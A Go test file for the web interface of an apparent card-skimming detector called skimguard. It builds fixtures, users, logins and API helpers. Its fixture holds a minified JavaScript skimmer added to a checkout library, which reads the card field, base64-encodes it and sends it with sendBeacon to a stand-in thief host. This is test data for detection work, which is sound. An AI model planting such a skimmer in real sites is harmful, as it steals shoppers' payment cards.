package web

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"golang.org/x/crypto/bcrypt"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/baseline"
	"github.com/skimguard/skimguard/monitor"
	"github.com/skimguard/skimguard/sqlite"
)

const (
	pageURL  = "http://127.0.0.1:1/checkout"
	libURL   = "http://127.0.0.1:1/lib.min.js"
	thief    = "http://127.0.0.66:1"
	password = "correct horse battery"
	apiToken = "0123456789abcdef0123456789abcdef-test"
)

// The approved library is minified, and the attacker appended a minified
// skimmer to it: the diff must show just the skimmer, pretty-printed.
const (
	libV1 = `!function(){var e=document.querySelector("#pay");function t(n){return n.trim()}e.addEventListener("submit",function(n){n.preventDefault();var r=t(e.card.value);fetch("/pay",{method:"POST",body:r})})}();`
	libV2 = libV1 + `!function(){document.addEventListener("change",function(e){var d=btoa(JSON.stringify({c:document.querySelector("#cc").value}));navigator.sendBeacon("http://127.0.0.66:1/g.php",d)})}();`
)

var onePixelPNG = []byte{0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0d, 0x0a, 0x2d, 0xb4, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82}

func script(src string) skimguard.Script {
	h := sha256.Sum256([]byte(src))
	return skimguard.Script{Kind: skimguard.ScriptExternal, URL: libURL, Frame: pageURL, Ordinal: 1, SHA256: hex.EncodeToString(h[:]),
		Size: len(src), Source: src, LoadedBy: "parser"}
}

func observation(src string, leak bool) *skimguard.Observation {
	o := &skimguard.Observation{Site: "shop", Page: "checkout", URL: pageURL, FinalURL: pageURL, Status: 200, Profile: "desktop",
		Headers: map[string]string{"x-frame-options": "DENY"},
		Scripts: []skimguard.Script{script(src)},
		Connections: []skimguard.Connection{
			{Origin: "http://127.0.0.1:1", Types: []string{"Script"}, Initiators: []string{"parser"}, Example: libURL, Count: 1}},
		Typed: true, Screenshot: onePixelPNG,
	}
	if leak {
		o.Connections = append(o.Connections, skimguard.Connection{Origin: thief, Types: []string{"Ping"}, Initiators: []string{libURL},
			Example: thief + "/g.php", Count: 1, AfterTyping: true})
		o.Leaks = []skimguard.Leak{{Origin: thief, URL: thief + "/g.php", Method: "POST", Type: "Ping", Initiator: libURL,
			Fields: []skimguard.CardField{skimguard.FieldNumber}, Encoding: "base64", Where: "body"}}
	}
	return o
}

// fixture is a server on a real SQLite store holding a baseline learnt
// from the clean page and one check of the compromised page, and a user.
type fixture struct {
	store skimguard.Store
	srv   *httptest.Server
	// opts are the server's options.
	opts  Options
	logs  *bytes.Buffer
	clock *clock
	// twoPerson turns the two-person rule on.
	twoPerson atomic.Bool
	// ids of the findings by kind.
	ids map[skimguard.Kind]int64
}

// clock is the server's clock in a test: the real time until a test moves
// it on.
type clock struct {
	mu sync.Mutex
	at time.Time
}

func (c *clock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.at.IsZero() {
		return time.Now()
	}
	return c.at
}

// advance moves the clock d on from now and stops it there.
func (c *clock) advance(d time.Duration) {
	at := c.now().Add(d)
	c.mu.Lock()
	defer c.mu.Unlock()
	c.at = at
}

// newFixtureWith is newFixture with the server's options changed by opts.
func newFixtureWith(t *testing.T, opts func(*Options)) *fixture {
	t.Helper()
	return newFixture(t, opts)
}

// newFixture makes the fixture; options change the server's Options.
func newFixture(t *testing.T, options ...func(*Options)) *fixture {
	t.Helper()
	ctx := context.Background()
	store, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "sg.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	now := time.Now().UTC().Add(-time.Hour)
	clean := observation(libV1, false)
	b, err := baseline.Learn([]*skimguard.Observation{clean, clean, clean}, "alice", "onboarding, ticket SEC-1", now)
	if err != nil {
		t.Fatal(err)
	}
	b.Site, b.Page, b.URL = "shop", "checkout", pageURL
	if err := store.SaveBaseline(ctx, b); err != nil {
		t.Fatal(err)
	}
	bad := observation(libV2, true)
	scan := &skimguard.Scan{Site: "shop", Page: "checkout", URL: pageURL, StartedAt: now.Add(time.Minute), Duration: 4 * time.Second,
		Status: skimguard.ScanFindings, BaselineVersion: b.Version, Observation: bad, Findings: baseline.Compare(b, bad)}
	if err := store.SaveScan(ctx, scan); err != nil {
		t.Fatal(err)
	}
	f := &fixture{store: store, logs: &bytes.Buffer{}, clock: &clock{}, ids: map[skimguard.Kind]int64{}}
	for _, fd := range scan.Findings {
		f.ids[fd.Kind] = fd.ID
	}
	for _, k := range []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindDataExfiltration} {
		if f.ids[k] == 0 {
			t.Fatalf("the fixture has no %s finding: %+v", k, scan.Findings)
		}
	}
	// alice administers; bob reviews; victor only looks.
	f.addUser(t, "alice", skimguard.RoleAdmin)
	f.addUser(t, "bob", skimguard.RoleReviewer)
	f.addUser(t, "victor", skimguard.RoleViewer)
	mon := &monitor.Monitor{Store: store, Approvals: func() skimguard.Approvals {
		if f.twoPerson.Load() {
			return skimguard.ApprovalsTwoPerson
		}
		return skimguard.ApprovalsOnePerson
	}}
	o := Options{
		Store: store, Resolve: mon.Resolve, Token: apiToken,
		Pages:  func() []skimguard.Page { return []skimguard.Page{{Site: "shop", Name: "checkout", URL: pageURL}} },
		Logger: slog.New(slog.NewTextHandler(f.logs, nil)),
		Metrics: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			io.WriteString(w, "skimguard_test_metric 1\n")
		}),
		Now: f.clock.now,
	}
	for _, opt := range options {
		opt(&o)
	}
	s, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	f.opts = o
	f.srv = httptest.NewServer(s)
	t.Cleanup(f.srv.Close)
	return f
}

// another starts another server on the fixture's store, as a second serve
// behind the same address, or the same serve after a restart, would be,
// and returns its address.
func (f *fixture) another(t *testing.T) string {
	t.Helper()
	o := f.opts
	o.Logger = slog.New(slog.DiscardHandler)
	s, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(s)
	t.Cleanup(srv.Close)
	return srv.URL
}

// addUser adds a user with the password and role.
func (f *fixture) addUser(t *testing.T, name string, role skimguard.Role) {
	t.Helper()
	// The lowest cost keeps the tests quick; the server checks any cost.
	hash, err := bcrypt.GenerateFromPassword([]byte(password), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.store.SaveUser(context.Background(), &skimguard.User{Name: name, PasswordHash: hash, Role: role}, "test"); err != nil {
		t.Fatal(err)
	}
}

// client is a browser-like client: it keeps cookies and does not follow
// redirects, so tests see them.
func (f *fixture) client(t *testing.T) *http.Client {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func (f *fixture) url(path string) string { return f.srv.URL + path }

// get fetches a page and returns its status and parsed document.
func get(t *testing.T, c *http.Client, u string) (*http.Response, *goquery.Document) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	doc, err := goquery.NewDocumentFromReader(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, doc
}

func postForm(t *testing.T, c *http.Client, u string, form url.Values) *http.Response {
	t.Helper()
	resp, err := c.PostForm(u, form)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp
}

// login signs c in as user and returns the session's CSRF token, read from
// the sign-out form as a browser would have it.
func (f *fixture) login(t *testing.T, c *http.Client, user, pw string) (*http.Response, string) {
	t.Helper()
	_, doc := get(t, c, f.url("/login"))
	token, _ := doc.Find(`form[action="/login"] input[name=csrf]`).Attr("value")
	resp := postForm(t, c, f.url("/login"), url.Values{"csrf": {token}, "user": {user}, "password": {pw}, "next": {"/"}})
	if resp.StatusCode != http.StatusSeeOther {
		return resp, ""
	}
	_, doc = get(t, c, f.url("/"))
	csrf, _ := doc.Find(`form[action="/logout"] input[name=csrf]`).Attr("value")
	if csrf == "" {
		t.Fatalf("signed in, but the dashboard has no CSRF token:\n%s", doc.Text())
	}
	return resp, csrf
}

// api calls the JSON API with the token and decodes the answer into v.
func (f *fixture) api(t *testing.T, method, path, body string, v any) int {
	t.Helper()
	req, _ := http.NewRequest(method, f.url(path), strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+apiToken)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if v != nil {
		if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
			t.Fatalf("%s %s: %d, not JSON: %v", method, path, resp.StatusCode, err)
		}
	}
	return resp.StatusCode
}

func (f *fixture) finding(t *testing.T, id int64) skimguard.Finding {
	t.Helper()
	fs, err := f.store.Findings(context.Background(), skimguard.FindingFilter{IDs: []int64{id}})
	if err != nil || len(fs) != 1 {
		t.Fatalf("finding %d: %v %v", id, fs, err)
	}
	return fs[0]
}
